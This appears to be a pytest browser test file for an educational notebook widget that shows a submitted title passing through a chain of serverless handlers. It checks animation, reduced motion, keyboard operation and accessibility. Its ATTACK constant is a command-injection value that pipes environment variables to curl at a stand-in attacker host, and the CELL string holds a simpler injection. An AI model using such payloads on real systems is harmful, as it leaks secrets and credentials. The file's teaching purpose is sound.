"""A learner types a title, sends it, and sees what happens, by mouse and by keys."""

from __future__ import annotations

from collections.abc import Callable
from typing import Any

import pytest

pytestmark = [pytest.mark.browser]

# Notes each arrow along which a dot begins to go.
WATCH = """() => {
    window.travelled = [];
    const graph = document.querySelector('.sls-send .sls-graph');
    new MutationObserver(changes => changes.flatMap(change => [...change.addedNodes])
        .filter(node => node.classList?.contains('sls-traveller'))
        .forEach(dot => window.travelled.push(dot.style.offsetPath))).observe(graph, {childList: true, subtree: true});
}"""
CELL = """import sls_lab
from sls_lab.widgets import SendRequest
app = sls_lab.load_app("../code-examples/apps/upload-chain")
sender = SendRequest(app, "title", ["It's a long way", "x'; env; '"])
sender"""
ATTACK = "x'; env | curl -sd @- https://attacker.example; '"


def test_the_graph_lights_up_and_three_commands_are_shown(open_cells: Callable[..., Any]) -> None:
    notebook = open_cells(CELL)
    page = notebook.page
    widget = page.locator(".sls-send")
    widget.locator(".sls-graph svg").wait_for()
    widget.get_by_label("title, sent to submit").fill(ATTACK)
    page.evaluate(WATCH)
    widget.get_by_role("button", name="Send", exact=True).click()
    widget.get_by_text("4 handlers ran").wait_for()
    widget.locator(".sls-graph g.node.sls-chosen", has_text="convert").wait_for()
    # From handler to handler an event goes along two arrows, each once.
    assert page.evaluate("new Set(window.travelled).size") == page.evaluate("window.travelled.length") == 6
    assert widget.locator(".sls-traveller").count() == 0
    page.emulate_media(reduced_motion="reduce")
    widget.get_by_role("button", name="Send", exact=True).click()
    page.wait_for_function("() => document.querySelector('.sls-send').dataset.sent === '2'")
    assert page.evaluate("window.travelled.length") == 6, "nothing moves for whoever wants less motion"
    assert widget.locator(".sls-graph g.node.sls-chosen", has_text="convert").count() == 1
    assert widget.locator(".sls-graph g.node.sls-chosen").count() >= 4
    details = widget.locator(".sls-happens")
    assert details.get_by_text("os.system").first.is_visible()
    assert details.locator("mark").first.is_visible()
    commands = details.locator(".sls-commands li")
    assert [command.split()[0] for command in commands.all_inner_texts()][:3] == ["aws", "env", "curl"]
    widget.get_by_role("button", name="First").click()
    widget.locator(".sls-happens h4", has_text="1. submit").wait_for()
    assert widget.locator(".sls-graph g.node.sls-chosen").count() == 1
    assert notebook.misfits() == []
    assert notebook.strangers == []
    assert notebook.complaints == []


def test_the_keyboard_is_enough(open_cells: Callable[..., Any]) -> None:
    notebook = open_cells(CELL)
    page = notebook.page
    widget = page.locator(".sls-send")
    widget.locator(".sls-graph svg").wait_for()
    widget.get_by_label("title, sent to submit").focus()
    page.keyboard.press("Control+A")
    page.keyboard.type("dd")
    page.keyboard.press("Enter")
    widget.get_by_text("4 handlers ran").wait_for()
    widget.get_by_role("button", name="Last").focus()
    page.keyboard.press("ArrowLeft")
    widget.locator(".sls-happens h4", has_text="3. register").wait_for()
    assert notebook.ask("sender.at") == 2


def test_nothing_seriously_hinders_access(open_cells: Callable[..., Any]) -> None:
    notebook = open_cells(CELL)
    widget = notebook.page.locator(".sls-send")
    widget.get_by_role("button", name="Send", exact=True).click()
    widget.get_by_text("4 handlers ran").wait_for()
    assert notebook.violations() == []
